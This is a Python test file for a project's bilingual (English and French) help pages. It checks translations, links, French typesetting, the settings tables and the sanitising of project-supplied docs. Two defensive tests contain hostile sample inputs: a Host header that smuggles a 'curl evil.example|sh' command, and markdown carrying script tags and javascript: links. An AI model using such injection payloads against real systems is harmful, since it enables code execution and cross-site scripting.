"""The pages of the help: whole in each language, linked, safe, and right under a path."""

from __future__ import annotations

import re
from itertools import pairwise
from pathlib import Path
from urllib.parse import urldefrag, urljoin

import html5lib
import httpx
import pytest
from tests.help.pages import FILES, IDS, LANGUAGES, blocks, headings
from tests.linked.projects import serving, write_rivers

from ctgraph.settings import Settings
from ctgraph.web.manual.reading import Manual, Page

HTML = "{http://www.w3.org/1999/xhtml}"
NAMES = sorted({re.sub(r"^\d+-", "", file.name).split(".")[0] for file in FILES})
LITERAL = re.compile(r'"[^"\n]*"')


def in_french(file: Path) -> Path:
    return file.with_name(file.name.replace(".en.md", ".fr.md"))


ENGLISH = [file for file in FILES if file.name.endswith(".en.md")]


def test_there_is_each_page_in_each_language() -> None:
    assert {in_french(file) for file in ENGLISH} == set(FILES) - set(ENGLISH)


@pytest.mark.parametrize("file", ENGLISH, ids=lambda f: f.name)
def test_languages_have_the_same_headings_and_the_same_blocks(file: Path) -> None:
    """Words within quotes are free: a name is asked for in the reader's language, output is in it."""
    anchors = [[(level, re.findall(r"\{#(\S+)\}$", text)) for level, text in headings(f)] for f in (file, in_french(file))]
    assert anchors[0] == anchors[1]
    assert all(found for level, found in anchors[0] if level != "h1"), "a heading has no anchor"
    flat = [found[0] for level, found in anchors[0] if level != "h1"]
    assert len(flat) == len(set(flat))
    rows = [len(re.findall(r"^\|", f.read_text(encoding="utf-8"), re.MULTILINE)) for f in (file, in_french(file))]
    assert rows[0] == rows[1], "tables"
    english, french = list(blocks(file)), list(blocks(in_french(file)))
    assert [(b.kind, b.file, bool(b.table)) for b in english] == [(b.kind, b.file, bool(b.table)) for b in french]
    for ours, theirs in zip(english, french, strict=True):
        if ours.kind == "sparql":
            assert LITERAL.sub('""', ours.text) == LITERAL.sub('""', theirs.text), theirs.place
        elif ours.kind == "console":
            commands = [[line.replace("--lang fr", "--lang en") for line in b.text.splitlines() if line.startswith("$ ")] for b in (ours, theirs)]
            assert commands[0] == commands[1], theirs.place
        elif ours.kind != "measured":
            assert ours.text == theirs.text, theirs.place


@pytest.mark.parametrize("file", FILES, ids=IDS)
def test_french_is_typeset_as_french(file: Path) -> None:
    """Apostrophes and quotation marks of prose; code is as it is."""
    prose = re.sub(r"```.*?```|`[^`\n]*`|^\|.*$|\]\([^)]*\)", "", file.read_text(encoding="utf-8"), flags=re.DOTALL | re.MULTILINE)
    assert "'" not in prose
    if ".fr." in file.name:
        assert '"' not in prose
        assert not re.search(r"\w[;?!]", prose), re.findall(r".{20}\w[;?!]", prose)


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_link_of_every_page_leads_somewhere(client: httpx.Client, language: str) -> None:
    seen: dict[str, set[str]] = {}
    for name in ("", *(f"/{n}" for n in NAMES)):
        url = f"/help{name}?lang={language}"
        answer = client.get(url)
        assert answer.status_code == 200
        assert answer.headers["Content-Language"] == language
        page = html5lib.parse(answer.text)
        assert page.find(f"{HTML}body") is not None
        here = {e.attrib["id"] for e in page.iter() if "id" in e.attrib}
        for link in page.iter(f"{HTML}a"):
            href = link.attrib["href"]
            if href.startswith("http"):
                assert link.attrib["rel"].split()[0] in {"external", "license"}
                continue
            place, fragment = urldefrag(urljoin(url, href))
            if place == url:
                assert not fragment or fragment in here, (name, href)
            elif link.attrib.get("class") != "run" and place not in seen:
                target = client.get(place, follow_redirects=True)
                assert target.status_code == 200, (name, href)
                seen[place] = {e.attrib["id"] for e in html5lib.parse(target.text).iter() if "id" in e.attrib}
            if fragment and place in seen:
                assert fragment in seen[place], (name, href)
    assert len(seen) > 20


def test_the_index_lists_the_pages_and_each_leads_on(client: httpx.Client) -> None:
    page = client.get("/help?lang=fr").text
    assert "Aide" in page
    places = re.findall(r'<dt><a href="([^"]+)"', page)
    assert [p.split("?")[0] for p in places][:2] == ["/help/tutorial", "/help/cookbook"]
    assert len(places) == len(NAMES)
    for place, after in pairwise(places):
        assert f'rel="next" href="{after}"' in client.get(place).text
    assert 'rel="next"' not in client.get(places[-1]).text


@pytest.mark.parametrize("language", LANGUAGES)
def test_what_was_measured_stands_in_its_table(client: httpx.Client, language: str) -> None:
    file = next(f for f in FILES if f.name.endswith(f"performance.{language}.md"))
    page = html5lib.parse(client.get(f"/help/performance?lang={language}").text)
    drawn = [e for e in page.iter(f"{HTML}figure") if e.attrib.get("class") == "measured"]
    asked = [b for b in blocks(file) if b.kind == "measured"]
    assert len(drawn) == len(asked) > 5
    for figure, block in zip(drawn, asked, strict=True):
        words = "".join(figure.find(f".//{HTML}caption").itertext())
        assert words.strip() == block.text.strip()
        heads, rows = figure.findall(f".//{HTML}thead//{HTML}th"), figure.findall(f".//{HTML}tbody/{HTML}tr")
        assert rows
        for row in rows:
            cells = ["".join(cell.itertext()) for cell in row.findall(f"{HTML}td")]
            assert len(cells) == len(heads)
            assert all(re.match(r"[\d–]", cell) for cell in cells), cells
        assert re.search(r"20\d\d-\d\d-\d\d", "".join(figure.find(f"{HTML}figcaption").itertext()))


def test_the_table_of_settings_has_every_setting_in_both_languages(client: httpx.Client) -> None:
    english = client.get("/help/operators?lang=en").text
    french = client.get("/help/operators?lang=fr").text
    for name in Settings.__dataclass_fields__:
        assert (f'id="setting-{name}"' in english) == (name != "root")
    row = re.compile(r'id="setting-query_timeout">.*?</tr>', re.DOTALL)
    assert "seconds" in row.findall(english)[0]
    assert "secondes" in row.findall(french)[0]


def test_a_project_without_pages_has_those_of_the_software_in_its_own_place(tmp_path: Path) -> None:
    public = "https://public.example/deep/er"
    with serving(write_rivers(tmp_path), public_url=public) as inner, httpx.Client(base_url=inner, trust_env=False, timeout=60, headers={"Accept": "text/html"}) as client:
        index = client.get("/help").text
        assert "/deep/er/help/operators" in index
        assert "tutorial" not in index
        assert client.get("/help/tutorial").status_code == 404
        page = client.get("/help/data").text
        assert f"{public}/sparql" in page
        assert "https://SERVER" not in page
        assert not re.search(r'href="/(?!deep/er/)', page)


def test_a_host_that_means_harm_does_not_get_into_commands(client: httpx.Client) -> None:
    page = client.get("/help/data", headers={"Host": "x';curl evil.example|sh;'"})
    assert "evil.example|sh" not in page.text
    if page.status_code == 200:
        assert "https://SERVER" in page.text


HOSTILE = """# A <b>title</b>

What *it* is `for`.

## Part {#part}

<script>alert(1)</script> [x](javascript:alert(1)) [y](//evil.example/) ![z](https://evil.example/z.png)

## No anchor
"""


def test_a_projects_pages_come_first_replace_ours_and_hold_no_html(tmp_path: Path) -> None:
    project = write_rivers(tmp_path)
    (project / "docs").mkdir()
    (project / "docs" / "10-later.en.md").write_text("# Later\n", encoding="utf-8")
    (project / "docs" / "9-hostile.en.md").write_text(HOSTILE, encoding="utf-8")
    (project / "docs" / "operators.fr.md").write_bytes(b"# Ici\xff\n")
    (project / "docs" / "README.md").write_text("no page", encoding="utf-8")
    manual = Manual.read(project / "docs")
    assert manual.names[:3] == ("operators", "hostile", "later")
    own = manual.find("operators", ["fr", "en"])
    assert own is not None
    assert own.own
    with serving(project) as inner:
        page = httpx.get(f"{inner}/help/hostile?lang=fr", headers={"Accept": "text/html"}, trust_env=False, timeout=60).text
    assert "A &lt;b&gt;title&lt;/b&gt;" in page
    assert '<h1 lang="en">' in page
    assert "<script>alert" not in page
    assert 'href="javascript' not in page
    assert "<img" not in page
    assert '<h2 id="part">Part</h2>' in page


def test_french_lines_do_not_begin_with_a_mark(client: httpx.Client) -> None:
    page = client.get("/help/facts?lang=fr").text
    assert "entre guillemets" in page
    assert "\u00a0;" in page
    assert " ;" not in re.findall(r"<article.*</article>", re.sub(r"<pre.*?</pre>", "", page, flags=re.DOTALL), re.DOTALL)[0]


def test_data_without_documents_has_no_page_on_their_facts() -> None:
    assert Manual.read(None, without=["facts"]).names == ("data", "operators", "engines", "maintainers", "performance")


def test_a_page_that_lacks_its_parts_is_still_a_page() -> None:
    page = Page.of("empty", "en", "", own=True)
    assert (page.title, page.purpose, page.sections) == ("empty", "", ())


def test_what_came_from_the_cache_is_never_the_best(client: httpx.Client) -> None:
    page = html5lib.parse(client.get("/help/performance").text)
    marked = 0
    for table in page.iter(f"{HTML}table"):
        columns = [" ".join(e.itertext()) for e in table.findall(f"{HTML}thead/{HTML}tr/{HTML}th")]
        words = " ".join("".join(e.itertext()) for e in table.findall(f"{HTML}caption"))
        if "ctgraph, with its cache" in columns and words.startswith("Milliseconds"):
            place = columns.index("ctgraph, with its cache")
            for row in table.findall(f"{HTML}tbody/{HTML}tr"):
                cells = row.findall(f"{HTML}td")
                assert cells[place].find(f"{HTML}b") is None, "".join(row.itertext())
                marked += any(cell.find(f"{HTML}b") is not None for cell in cells)
    assert marked
